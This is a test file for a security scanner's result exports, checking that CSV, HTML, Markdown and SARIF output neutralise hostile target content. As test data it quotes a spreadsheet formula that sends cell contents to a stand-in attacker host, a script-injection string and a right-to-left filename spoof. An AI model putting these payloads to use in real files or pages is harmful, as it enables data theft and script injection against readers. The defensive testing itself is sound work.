/** Exports of results: what each format says, how downloads are resumed, and that nothing in them is run. */
import { randomBytes } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { request } from 'node:http';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import sarifSchema from '@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json' with { type: 'json' };
import ajv4 from 'ajv-draft-04';
import addFormats from 'ajv-formats';
import { parse as parseCsv } from 'csv-parse/sync';
import type { Log, Result, Run } from 'sarif';
import { ulid } from 'ulid';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ExportSource } from '../src/core/export-source.ts';
import { scanGlobalId } from '../src/core/scan-id.ts';
import { severityRank } from '../src/core/vocabulary.ts';
import { EXPORT_FORMATS, exportFormat } from '../src/formats/write/index.ts';
import { sharedApp, until, withFolder } from './support/app.ts';
import { chromiumPath, withBrowser } from './support/browser.ts';
import { endCommands, runCommand } from './support/command.ts';
import { readPage } from './support/documentation.ts';
import {
  endpointEvent,
  findingEvent,
  HOSTILE,
  hostEvent,
  hostileEvents,
  otherEvents,
  recordScan,
} from './support/exported-scan.ts';

const app = sharedApp({ scanners: [], limits: { exportsPerIdentity: 3 } });
const [hostile, large, running] = [ulid(), ulid(), ulid()];
const LARGE = 2600;
let appendToRunning: Awaited<ReturnType<typeof recordScan>>;

beforeAll(async () => {
  const { log } = app().app.core;
  await recordScan(log, hostile, [...hostileEvents(), ...otherEvents()]);
  const many = Array.from({ length: LARGE }, (_, n) =>
    n % 2 === 0
      ? endpointEvent(`https://large.test/${n === 0 ? `long-address/${'a'.repeat(3000)}` : n}`)
      : findingEvent({
          ...{ title: `Flaw ${n}`, type: 'flaw', url: `https://large.test/${n}` },
          severity: n % 10 === 1 ? 'HIGH' : 'LOW',
        }),
  );
  await recordScan(log, large, [...many, ...otherEvents()], { target: 'https://large.test/app?x=1' });
  appendToRunning = await recordScan(log, running, [hostEvent('a.run.test')], {
    ends: false,
    target: 'run.test',
  });
});
afterAll(endCommands);

const pathOf = (scanId: string, file: string) =>
  `/scans/${encodeURIComponent(scanGlobalId(scanId))}/export.${file}`;
const get = (path: string, init: RequestInit = {}) => fetch(app().url + path, init);
async function textOf(path: string): Promise<string> {
  const response = await get(path);
  expect(response.status, await response.clone().text()).toBe(200);
  return await response.text();
}
// biome-ignore lint/suspicious/noExplicitAny: tests read whatever they asked for
const linesOf = (text: string): any[] =>
  text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line));

/** The results of a scan as the log has them. */
const recorded = async (scanId: string) =>
  (
    await app().app.core.log.read(scanId, {
      after: 0,
      limit: 10_000,
      types: ['HOST', 'ENDPOINT', 'FINDING', 'ASSESSMENT'],
    })
  ).map(({ scanId: _, ...event }) => event);

describe('JSON', () => {
  test('lines are the results of the log, in order, and then the warnings', async () => {
    for (const scanId of [hostile, large]) {
      const lines = linesOf(await textOf(pathOf(scanId, 'jsonl')));
      const warnings = lines.filter(({ type }) => type === 'WARNING');
      expect(lines.slice(0, -1)).toEqual(await recorded(scanId));
      expect(warnings).toEqual([{ ...warnings[0], type: 'WARNING', code: 'OUT_OF_SCOPE', count: 3 }]);
      expect(lines.at(-1)).toBe(warnings[0]);
    }
  });

  test('of a scan is one document with the scan and the same results', async () => {
    const { scan, results } = JSON.parse(await textOf(pathOf(large, 'json')));
    expect(results).toEqual(await recorded(large));
    expect(scan).toMatchObject({
      ...{ id: scanGlobalId(large), target: 'https://large.test/app?x=1', status: 'COMPLETED' },
      ...{ lastSeq: LARGE + 6, label: 'nightly' },
      summary: { endpoints: LARGE / 2, findings: LARGE / 2 + 1, assessments: 1 },
      warnings: [{ code: 'OUT_OF_SCOPE', count: 3 }],
    });
  });

  test('has no character that a terminal obeys or hides', async () => {
    for (const format of EXPORT_FORMATS) {
      const text = (await textOf(pathOf(hostile, format.name)))
        .replace(/^\ufeff/, '')
        .replaceAll('\r\n', '\n');
      expect(text.replaceAll('\n', '').match(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u), format.name).toBeNull();
    }
  });

  test('is the same from the database of the command line and from the server', async () => {
    const options = { cwd: '/', env: { DATABASE_URL: app().databaseUrl, NO_COLOR: '1' } };
    const [local, remote, newest] = await Promise.all([
      runCommand(['export', large, '--min-severity', 'high', '--types', 'finding'], options),
      runCommand(
        [
          'export',
          scanGlobalId(large),
          '--min-severity',
          'high',
          '--types',
          'finding',
          '--server',
          app().url,
        ],
        options,
      ),
      runCommand(['export', 'latest', '--format', 'json'], options),
    ]);
    const http = await textOf(`${pathOf(large, 'jsonl')}?minSeverity=high&types=finding`);
    expect([local.code, local.stdout]).toEqual([0, http]);
    expect([remote.code, remote.stdout]).toEqual([0, http]);
    expect(local.stderr).toMatch(
      new RegExp(`^scanwire: exporting https://large\\.test/app\\?x=1, scan ${large}, [\\d,]+ results\\n`),
    );
    expect(remote.stderr).toBe(`scanwire: exporting scan ${scanGlobalId(large)}\n`);
    expect(JSON.parse(newest.stdout).scan).toMatchObject({ target: 'run.test', status: 'RUNNING' });
    expect(newest.stderr).toContain('the scan is RUNNING: these are its results up to event 3');
  });
});

describe('a selection', () => {
  test('has the wanted types, and findings of a severity', async () => {
    const all = await recorded(large);
    const lines = linesOf(await textOf(`${pathOf(large, 'jsonl')}?types=FINDING,host&minSeverity=High`));
    const wanted = all.filter(
      (event) => event.type === 'FINDING' && severityRank(event.finding.severity) >= severityRank('HIGH'),
    );
    expect(lines.filter(({ type }) => type !== 'WARNING')).toEqual(wanted);
    expect(wanted.length).toBe(LARGE / 10);
  });

  test('is counted and stated by reports', async () => {
    for (const format of ['html', 'md']) {
      const text = await textOf(`${pathOf(large, format)}?minSeverity=high&types=finding`);
      expect(text).toContain('minSeverity HIGH');
      expect(text).toContain('260 findings');
      expect(text).not.toContain('Flaw 3<');
    }
  });
});

describe('a download of JSON lines', () => {
  test('that broke anywhere continues without loss or repetition', async () => {
    const whole = await textOf(pathOf(large, 'jsonl'));
    const results = whole.split('\n').filter((line) => line.startsWith('{"seq":'));
    for (const at of [0, 10, Math.floor(whole.length / 3), whole.length - 20]) {
      const complete = whole
        .slice(0, at)
        .split('\n')
        .slice(0, -1)
        .filter((line) => line.startsWith('{"seq":'));
      const after = complete.length === 0 ? 0 : JSON.parse(complete.at(-1) as string).seq;
      const rest = await textOf(`${pathOf(large, 'jsonl')}?after=${after}`);
      expect([...complete, ...rest.split('\n')].filter((line) => line.startsWith('{"seq":'))).toEqual(
        results,
      );
    }
  });

  test('can be taken in parts', async () => {
    const parts: number[] = [];
    for (let after = 0; ; ) {
      const lines = linesOf(await textOf(`${pathOf(large, 'jsonl')}?after=${after}&first=999`)).filter(
        ({ seq }) => seq,
      );
      if (lines.length === 0) break;
      parts.push(...lines.map(({ seq }) => seq));
      after = parts.at(-1) as number;
    }
    expect(parts).toEqual((await recorded(large)).map(({ seq }) => seq));
  });

  test('of a running scan is a snapshot that says so, and continues later', async () => {
    const response = await get(pathOf(running, 'jsonl'));
    expect(response.headers.get('scanwire-scan-status')).toBe('RUNNING');
    const last = Number(response.headers.get('scanwire-last-seq'));
    expect(linesOf(await response.text()).map(({ host }) => host.name)).toEqual(['a.run.test']);
    await appendToRunning(hostEvent('b.run.test'));
    const more = linesOf(await textOf(`${pathOf(running, 'jsonl')}?after=${last}`));
    expect(more.map(({ host, seq }) => [host.name, seq])).toEqual([['b.run.test', last + 1]]);
    expect(await textOf(pathOf(running, 'html'))).toContain('The scan has not ended (running)');
    expect(await textOf(pathOf(running, 'md'))).toContain('The scan has not ended');
  });

  test('ends before what is recorded after its beginning', async () => {
    const exported = await app().app.core.exports.scan(app().app.core.identity, running);
    await appendToRunning(hostEvent('c.run.test'));
    const seqs: number[] = [];
    for await (const text of exported.lines()) seqs.push(...linesOf(text).map(({ seq }) => seq));
    expect(seqs.at(-1)).toBe(exported.facts.scan?.lastSeq);
  });

  test('breaks when the scan is deleted meanwhile, and does not end cleanly', async () => {
    const { log } = app().app.core;
    const id = ulid();
    await recordScan(
      log,
      id,
      Array.from({ length: 2000 }, (_, n) => endpointEvent(`https://gone.test/${n}${'x'.repeat(2000)}`)),
    );
    const { broken, bytes } = await new Promise<{ broken: boolean; bytes: number }>((resolve, reject) => {
      let bytes = 0;
      request(app().url + pathOf(id, 'jsonl'), (response) => {
        response.once('data', async () => {
          response.pause();
          await log.remove(id);
          response.resume();
        });
        response.on('data', (chunk) => {
          bytes += chunk.length;
        });
        response.on('error', () => resolve({ broken: true, bytes }));
        response.on('end', () => resolve({ broken: false, bytes }));
      })
        .on('error', reject)
        .end();
    });
    expect(broken).toBe(true);
    expect(bytes).toBeGreaterThan(0);
  });
});

describe('SARIF', () => {
  const validate = (() => {
    const ajv = new ajv4.default({ strict: false, allErrors: true, unicodeRegExp: false });
    addFormats.default(ajv as never);
    return ajv.compile(sarifSchema);
  })();
  const sarifOf = async (path: string): Promise<Run & { results: Result[] }> => {
    const log = JSON.parse(await textOf(path)) as Log;
    expect(validate(log), JSON.stringify(validate.errors?.slice(0, 3))).toBe(true);
    return log.runs[0] as Run & { results: Result[] };
  };

  test('is valid by the schema of OASIS, whatever targets say', async () => {
    const run = await sarifOf(pathOf(hostile, 'sarif'));
    expect(run.results.length).toBe(2 * HOSTILE.length + 1);
    await sarifOf('/findings/export.sarif');
    await sarifOf(pathOf(running, 'sarif'));
  });

  test('has what GitHub code scanning reads of each result', async () => {
    const run = await sarifOf(pathOf(hostile, 'sarif'));
    const rules = run.tool.driver.rules ?? [];
    expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
    const levels = {
      CRITICAL: 'error',
      HIGH: 'error',
      MEDIUM: 'warning',
      LOW: 'note',
      INFO: 'note',
      UNKNOWN: 'warning',
    } as const;
    const scores = {
      CRITICAL: '9.5',
      HIGH: '8.0',
      MEDIUM: '5.5',
      LOW: '2.0',
      INFO: undefined,
      UNKNOWN: undefined,
    } as const;
    for (const result of run.results) {
      const { severity } = result.properties as { severity: keyof typeof levels };
      const rule = rules[result.ruleIndex as number];
      expect(rule?.id).toBe(result.ruleId);
      expect([result.level, rule?.properties?.['security-severity']]).toEqual([
        levels[severity],
        scores[severity],
      ]);
      expect(rule?.properties?.tags?.includes('security')).toBe(scores[severity] !== undefined);
      for (const text of [
        result.message.text,
        rule?.shortDescription?.text,
        rule?.fullDescription?.text,
        rule?.help?.text,
      ])
        expect(text?.trim()).toBeTruthy();
      const [location, ...others] = result.locations ?? [];
      expect(others).toEqual([]);
      const { artifactLocation, region } = location?.physicalLocation ?? {};
      // A relative path: with a scheme of its own, the whole file would be refused.
      expect(artifactLocation?.uri).toMatch(/^[\w%.~!*'()-]+(\/[\w%.~!*'()-]+)*$/);
      expect(region).toMatchObject({
        startLine: expect.any(Number),
        startColumn: expect.any(Number),
        endLine: expect.any(Number),
        endColumn: expect.any(Number),
      });
      expect(result.partialFingerprints?.primaryLocationLineHash).toMatch(/^\d{32}$/);
    }
  });

  test('refers to weaknesses by tags and by a taxonomy', async () => {
    const run = await sarifOf(pathOf(hostile, 'sarif'));
    const rule = run.tool.driver.rules?.find(({ relationships }) => relationships);
    expect(rule?.properties?.tags).toContain('external/cwe/cwe-079');
    expect(rule?.relationships?.[0]?.target).toEqual({
      id: '79',
      index: 0,
      toolComponent: { name: 'CWE', index: 0 },
    });
    expect(run.taxonomies?.[0]?.taxa?.map(({ id, name }) => [id, name])).toEqual([['79', 'CWE-79']]);
    expect(run.results.some(({ taxa }) => taxa?.[0]?.id === '79')).toBe(true);
  });

  test('names files and lines of code', async () => {
    const run = await sarifOf(pathOf(hostile, 'sarif'));
    const result = run.results.find(({ message }) => message.text?.startsWith('+MARK\nFound at src'));
    expect(result?.locations?.[0]?.physicalLocation).toMatchObject({
      artifactLocation: { uri: 'src/%2BMARK' },
      region: { startLine: 3, startColumn: 7, endLine: 3, endColumn: 8, snippet: { text: '+MARK' } },
    });
  });

  describe('within the limits of GitHub', () => {
    const line = (finding: Parameters<typeof findingEvent>[0]) =>
      `${JSON.stringify({ seq: 1, at: '2026-01-01T00:00:00.000Z', ...findingEvent(finding) })}\n`;
    /** Writes findings, each of a type of its own; the first one is HIGH. */
    const write = async (findings: number, description: () => string | null) => {
      const source: ExportSource = {
        head: async () => ({
          ...{ scan: null, at: new Date(), selection: [] },
          totals: { HOST: 2, ENDPOINT: 0, FINDING: findings, ASSESSMENT: 0 },
          bySeverity: { critical: 0, high: 1, medium: 0, low: findings - 1, info: 0, unknown: 0 },
        }),
        lines: async function* () {},
        async *linesOf() {
          for (let n = 1; n <= findings; n++)
            yield line({
              ...{ title: 'Flaw', severity: n === 1 ? 'HIGH' : 'LOW', type: `type ${n}`, cwe: 'CWE-79' },
              ...{ url: 'https://a.test/', description: description() },
            });
        },
      };
      const notes: string[] = [];
      let text = '';
      for await (const part of exportFormat('sarif')?.write(source, (note) => notes.push(note)) ?? []) {
        text += part;
      }
      const { runs } = JSON.parse(text) as Log;
      expect(runs).toHaveLength(1);
      expect(gzipSync(text).length).toBeLessThanOrEqual(10_000_000);
      const run = runs[0] as Run & { results: Result[] };
      const rules = run.tool.driver.rules ?? [];
      expect(Math.max(run.results.length, rules.length)).toBeLessThanOrEqual(25_000);
      expect(Math.max(...run.results.map(({ locations }) => locations?.length ?? 0))).toBe(1);
      // GitHub takes 20 tags, and shows 10.
      expect(Math.max(...rules.map(({ properties }) => properties?.tags?.length ?? 0))).toBe(2);
      expect([run.tool.extensions, run.results[0]?.codeFlows]).toEqual([undefined, undefined]);
      expect(run.results[0]?.level).toBe('error');
      expect(run.invocations?.[0]?.toolExecutionNotifications?.map(({ message }) => message.text)).toEqual(
        notes,
      );
      return { run, rules, notes };
    };

    test('are the worst 25,000 findings, and it says how many are left out', async () => {
      const { run, rules, notes } = await write(25_010, () => null);
      expect([run.results.length, rules.length]).toEqual([25_000, 25_000]);
      expect(notes).toEqual([
        '10 of 25,010 findings are omitted, the least severe ones: GitHub accepts 25,000 results in a file.',
        'SARIF has findings only: 2 hosts omitted.',
      ]);
    });

    test('are as many findings as fit into 10 MB', async () => {
      const { run, notes } = await write(3000, () => randomBytes(6000).toString('base64'));
      expect(run.results.length).toBeGreaterThan(500);
      expect(run.results.length).toBeLessThan(3000);
      expect(notes[0]).toMatch(
        /of 3,000 findings are omitted, .* GitHub accepts 10 MB in a file, compressed/,
      );
    });
  });
});

describe('CSV', () => {
  const rowsOf = async (path: string): Promise<Record<string, string>[]> => {
    const text = await textOf(path);
    // Node's fetch removes the mark from texts.
    const bytes = Buffer.from(await (await get(path)).arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.endsWith('\r\n')).toBe(true);
    return parseCsv(bytes, { bom: true, columns: true, relaxColumnCount: false, recordDelimiter: '\r\n' });
  };

  test('has a row for each result, with its values', async () => {
    const rows = await rowsOf(pathOf(large, 'csv'));
    expect(rows.map(({ seq }) => Number(seq))).toEqual((await recorded(large)).map(({ seq }) => seq));
    expect(rows[1]).toMatchObject({
      result: 'FINDING',
      severity: 'HIGH',
      title: 'Flaw 1',
      url: 'https://large.test/1',
    });
    expect(rows[0]).toMatchObject({
      result: 'ENDPOINT',
      status: '200',
      severity: '',
      contentType: 'text/html; charset=utf-8',
    });
  });

  test('has the confidence and the reasons of an assessment, and each reason once', async () => {
    const rows = await rowsOf(pathOf(large, 'csv'));
    expect(rows.find(({ result }) => result === 'ASSESSMENT')).toMatchObject({
      ...{ riskScore: '71', confidence: 'HIGH' },
      description: 'The form sends a password to another site.\nThe host `paypa1.test` imitates paypal.com.',
    });
  });

  test('has no cell that a spreadsheet would run, and loses no text', async () => {
    const rows = await rowsOf(pathOf(hostile, 'csv'));
    const cells = rows.flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠\t\r]/.test(cell))).toEqual([]);
    const titles = rows
      .filter(({ result, type }) => result === 'FINDING' && type !== 'secret')
      .map(({ title }) => title);
    expect(titles).toContain(`'=HYPERLINK("https://MARK.attacker.test/"&A1,"MARK")`);
    expect(titles).toContain('MARK, "quoted"\nand\nlines');
    expect(titles.filter((title) => title?.includes('MARK')).length).toBe(HOSTILE.length);
  });
});

describe.skipIf(!chromiumPath)('the HTML report', () => {
  test('runs nothing, loads nothing, and shows what targets say as text', async () => {
    await withFolder(async (folder) => {
      const file = join(folder, 'report.html');
      await writeFile(file, await textOf(pathOf(hostile, 'html')));
      await withBrowser(async (open) => {
        const { page, foreign, broken } = await open(`file://${file}`, {
          viewport: { width: 390, height: 844 },
        });
        const errors: string[] = [];
        page.on('console', (message) => errors.push(message.text()));
        await page.reload();
        expect(await page.title()).toBe('Security report: shop.test');
        const seen = await page.evaluate(() => ({
          made: document.querySelectorAll(
            'script, img, iframe, object, link, style ~ style, [onload], [onerror], [style]',
          ).length,
          links: [...document.querySelectorAll('a[href]')].map((a) => [
            a.getAttribute('href'),
            a.textContent,
          ]),
          text: document.body.innerText,
          overflow: document.documentElement.scrollWidth - window.innerWidth,
        }));
        expect([seen.made, foreign, broken, errors, seen.overflow]).toEqual([0, [], [], [], 0]);
        for (const hint of [
          '<script>document.title = "MARK"</script>',
          '&lt;b&gt;MARK&amp;',
          'MARK \\u202egpj.exe',
        ])
          expect(seen.text).toContain(hint);
        for (const [href = '', text] of seen.links as [string, string][])
          if (!href.startsWith('#') && !href.startsWith('https://cwe.mitre.org/')) {
            expect(href).toMatch(/^https?:\/\//);
            expect(text).toBe(href);
          }
      });
    });
  });

  test('keeps its columns on paper, whatever a target says', async () => {
    await withFolder(async (folder) => {
      const file = join(folder, 'report.html');
      await writeFile(file, await textOf(pathOf(hostile, 'html')));
      await withBrowser(async (open) => {
        // A4 in CSS pixels, and its width between the margins
        const { page } = await open(`file://${file}`, { viewport: { width: 794, height: 1123 } });
        const width = 680;
        await page.emulateMedia({ media: 'print' });
        const { cutOff, share } = await page.evaluate((right) => {
          document.body.style.width = `${right}px`;
          const cutOff = [...document.querySelectorAll('body *')]
            .filter((element) => element.getBoundingClientRect().right > right + 1)
            .map((element) => element.outerHTML.slice(0, 200));
          const address = document.querySelector('#endpoints td')?.getBoundingClientRect().width ?? 0;
          return { cutOff, share: address / right };
        }, width);
        expect(cutOff).toEqual([]);
        expect(share).toBeGreaterThan(0.4);
      });
    });
  });

  test('shortens a long address in a table, and shows where it leads', async () => {
    const [row] = (await textOf(pathOf(large, 'html'))).match(/<a [^>]*long-address[^>]*>[^<]*/) ?? [];
    expect(row).toMatch(/href="https:\/\/large\.test\/long-address\/a{3000}"/);
    expect(row).toMatch(/>https:\/\/large\.test\/long-address\/a{200,280}…$/);
  });

  test('shows the confidence and the reasons of an assessment, each once', async () => {
    const text = await textOf(pathOf(large, 'html'));
    expect(text.split('The form sends a password to another site.')).toHaveLength(2);
    expect(text).toMatch(
      /paypa1\.test\S* imitates[\s\S]*?<td class="short">suspicious<\/td><td class="short">high<\/td>/,
    );
  });

  test('shows the worst findings, hosts and endpoints of a large scan, and says how many', async () => {
    const text = await textOf(pathOf(large, 'html'));
    expect(text).toContain('The report shows the 1,000 worst of 1,301 findings.');
    expect(text).toContain('The report shows the first 500 of 1,300 endpoints.');
    expect(text.match(/<article/g)?.length).toBe(1000);
    expect(text.indexOf('Flaw 2591<')).toBeLessThan(text.indexOf('Flaw 3<'));
    expect(text).toContain('robots.txt excludes /admin');
  });
});

test('Markdown shows the confidence and the reasons of an assessment', async () => {
  const rows = (await textOf(pathOf(large, 'md'))).split('\n').filter((line) => line.includes('/login'));
  expect(rows).toEqual([
    '| `https://shop.test/login` | SUSPICIOUS | 71 | HIGH | The form sends a password to another site. The host \\`paypa1.test\\` imitates paypal.com. |',
  ]);
});

test('Markdown has no markup of targets', async () => {
  const text = await textOf(pathOf(hostile, 'md'));
  const outside = text
    .replace(/^(`{3,})text\n[\s\S]*?\n\1$/gm, '')
    .replace(/(?<!`)(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, '');
  expect(outside).not.toMatch(/(?<!\\)<|(?<!\\)\]\(|(?<!\\)!\[|@\w|https?:\/\//);
  expect(
    outside
      .split('\n')
      .filter(
        (line) =>
          /^#+ /.test(line) && !/^#{1,3} (Security|Findings|Pages|Hosts|Endpoints|What|[A-Z]+: )/.test(line),
      ),
  ).toEqual([]);
  expect(text.split('\n').filter((line) => /^### /.test(line)).length).toBe(2 * HOSTILE.length + 1);
});

describe('findings of all scans', () => {
  test('pass the filter of the list, and continue after a position', async () => {
    const lines = linesOf(await textOf('/findings/export.jsonl?types=flaw&severities=HIGH&text=flaw'));
    expect(lines.length).toBe(LARGE / 10);
    expect(lines[0]).toMatchObject({
      scanId: scanGlobalId(large),
      target: 'https://large.test/app?x=1',
      finding: { title: 'Flaw 1' },
    });
    const positions = lines.map(({ position }) => position);
    const after = positions[99];
    const rest = linesOf(
      await textOf(`/findings/export.jsonl?types=flaw&severities=HIGH&after=${after}&first=20`),
    );
    expect(rest.map(({ position }) => position)).toEqual(positions.slice(100, 120));
    const { results, summary } = JSON.parse(
      await textOf(`/findings/export.json?scanIds=${scanGlobalId(large)}&minSeverity=HIGH`),
    );
    expect([results.length, summary.findings, summary.bySeverity.high]).toEqual([260, 260, 260]);
  });
});

describe('HTTP', () => {
  test('names the file, compresses it, and revalidates it', async () => {
    const path = pathOf(large, 'json');
    const response = await get(path, { headers: { 'accept-encoding': 'identity' } });
    const { headers } = response;
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="scanwire-large\.test-app-x-1-\d{4}-\d\d-\d\d\.json"$/,
    );
    expect([headers.get('content-encoding'), headers.get('vary'), headers.get('content-type')]).toEqual([
      null,
      'accept-encoding',
      'application/json; charset=utf-8',
    ]);
    const plain = (await response.json()).results;
    const compressed = await new Promise<Buffer>((resolve) => {
      request(app().url + path, { headers: { 'accept-encoding': 'gzip' } }, async (answer) => {
        const chunks: Buffer[] = [];
        for await (const chunk of answer) chunks.push(chunk);
        resolve(Buffer.concat(chunks));
      }).end();
    });
    expect(JSON.parse(gunzipSync(compressed).toString()).results).toEqual(plain);
    const known = { 'if-none-match': headers.get('etag') as string };
    expect((await get(path, { headers: known })).status).toBe(304);
    expect((await get(pathOf(large, 'csv'), { headers: known })).status).toBe(200);
    expect((await get(pathOf(running, 'json'))).headers.get('etag')).toBeNull();
    const head = await get(path, { method: 'HEAD' });
    expect([head.status, head.headers.get('etag'), await head.text()]).toEqual([
      200,
      headers.get('etag'),
      '',
    ]);
  });

  test.each([
    ['an unknown format', `/scans/x/export.pdf`, 404, 'NOT_FOUND'],
    ['an unknown scan', `/scans/nothing/export.json`, 404, 'NOT_FOUND'],
    ['a cursor beyond the end', () => `${pathOf(large, 'jsonl')}?after=999999`, 400, 'CURSOR_AHEAD'],
    ['a cursor that is no number', () => `${pathOf(large, 'jsonl')}?after=-1`, 400, 'BAD_USER_INPUT'],
    ['a cursor of a format without one', () => `${pathOf(large, 'csv')}?after=3`, 400, 'BAD_USER_INPUT'],
    ['an unknown type', () => `${pathOf(large, 'csv')}?types=HOSTS`, 400, 'BAD_USER_INPUT'],
    ['an unknown parameter', () => `${pathOf(large, 'csv')}?severity=HIGH`, 400, 'BAD_USER_INPUT'],
    [
      'a repeated parameter',
      () => `${pathOf(large, 'csv')}?minSeverity=HIGH&minSeverity=LOW`,
      400,
      'BAD_USER_INPUT',
    ],
    ['a time that is none', '/findings/export.csv?since=yesterday', 400, 'BAD_USER_INPUT'],
  ])('refuses %s', async (_, path, status, code) => {
    const response = await get(typeof path === 'string' ? path : path());
    expect([response.status, (await response.json()).code]).toEqual([status, code]);
    expect(response.headers.get('content-type')).toBe('application/problem+json');
  });

  test('refuses more exports of a key at once than the limit, and stops reading for clients that leave', async () => {
    const leave = new AbortController();
    // Nobody reads these, and they are larger than the buffers of a socket.
    const id = ulid();
    const big = Array.from({ length: 3000 }, (_, n) =>
      endpointEvent(`https://big.test/${n}${'x'.repeat(7000)}`),
    );
    await recordScan(app().app.core.log, id, big);
    const unread = { signal: leave.signal, headers: { 'accept-encoding': 'identity' } };
    await Promise.all([1, 2, 3].map(() => get(pathOf(id, 'jsonl'), unread)));
    const refused = await get(pathOf(large, 'json'));
    expect([refused.status, (await refused.json()).code]).toEqual([429, 'LIMIT_REACHED']);
    leave.abort();
    await until(async () => (await get(pathOf(large, 'json'))).status === 200, 'the end of the exports');
  });

  test('is recorded in the audit log', async () => {
    await textOf(`${pathOf(large, 'csv')}?types=HOST`);
    const { nodes } = (
      await app().query(
        '{ auditLog(first: 1, filter: { actions: [EXPORT] }) { nodes { action outcome detail } } }',
      )
    ).data.auditLog;
    expect(nodes).toMatchObject([{ action: 'EXPORT', outcome: 'OK', detail: 'csv, types HOST' }]);
  });
});

test('the requests of the documentation succeed', async () => {
  const urls = [...(await readPage('docs/export.md')).matchAll(/http:\/\/localhost:4000(\/[^'\s]+)/g)];
  expect(urls.length).toBe(3);
  for (const [, path = ''] of urls)
    await textOf(path.replace('01JD3ZK7M2Q0R8V5X4T6Y9W1AB', large).replace('after=4711', 'after=2500'));
});

test('a scan has a link for each format', async () => {
  const { data } = await app().query(
    'query ($id: ID!) { scan(id: $id) { exports { format url mediaType } } }',
    { id: scanGlobalId(large) },
  );
  expect(data.scan.exports.map(({ format }: { format: string }) => format)).toEqual([
    'JSON',
    'JSONL',
    'CSV',
    'SARIF',
    'MD',
    'HTML',
  ]);
  for (const { url, mediaType } of data.scan.exports)
    expect((await get(url, { method: 'HEAD' })).headers.get('content-type')).toBe(mediaType);
});

test('a scan of the command line is saved as SARIF, and says what is omitted', async () => {
  await withFolder(async (folder) => {
    const file = 'x.sarif';
    const { code, stdout } = await runCommand(
      ['scan', 'example.com', '-s', 'mock', '-o', 'mock.events=20', '-o', 'mock.rate=0', '--output', file],
      { cwd: folder },
    );
    expect(code, stdout).toBe(0);
    expect(stdout.replace(/\s+/g, ' ')).toMatch(
      /SARIF has findings only: \d+ hosts?, \d+ endpoints?, .* omitted/,
    );
    const { runs } = JSON.parse(await readFile(join(folder, file), 'utf8')) as Log;
    expect(runs[0]?.results?.length).toBeGreaterThan(0);
  });
});
